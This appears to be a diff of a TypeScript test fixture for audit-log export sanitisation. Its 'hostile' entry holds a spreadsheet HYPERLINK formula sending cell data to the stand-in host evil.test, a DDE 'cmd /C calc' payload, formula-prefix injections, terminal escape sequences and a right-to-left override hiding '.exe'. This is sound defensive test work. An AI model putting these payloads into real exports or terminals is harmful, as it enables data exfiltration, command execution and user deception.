@@ -7,14 +7,22 @@ const hostile: AuditEntry = {
   at: new Date('2026-12-04T10:00:00Z'),
   kind: 'refused',
   requestId: '=HYPERLINK("https://evil.test/?"&A1,"open")',
-  target: '+1+cmd|\' /C calc\'!A0',
+  target: "+1+cmd|' /C calc'!A0",
   actor: '@SUM(1+1)',
   channel: '-2',
   data: { reason: 'unknown token', comment: 'ok\u001b]0;pwned\u0007\u001b[2J\u009b31m\u202egnp.exe\r\tdone' },
   prevHash: `sha256:${'0'.repeat(64)}`,
   hash: `sha256:${'1'.repeat(64)}`,
 };
-const tabLed: AuditEntry = { ...hostile, seq: 8, requestId: '\t=1+1', actor: '\r=2+2', target: 'orders', channel: null, data: {} };
+const tabLed: AuditEntry = {
+  ...hostile,
+  seq: 8,
+  requestId: '\t=1+1',
+  actor: '\r=2+2',
+  target: 'orders',
+  channel: null,
+  data: {},
+};
 
 /** Every character a terminal would act on rather than show; a newline only where the format allows one. */
 const RAW_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;
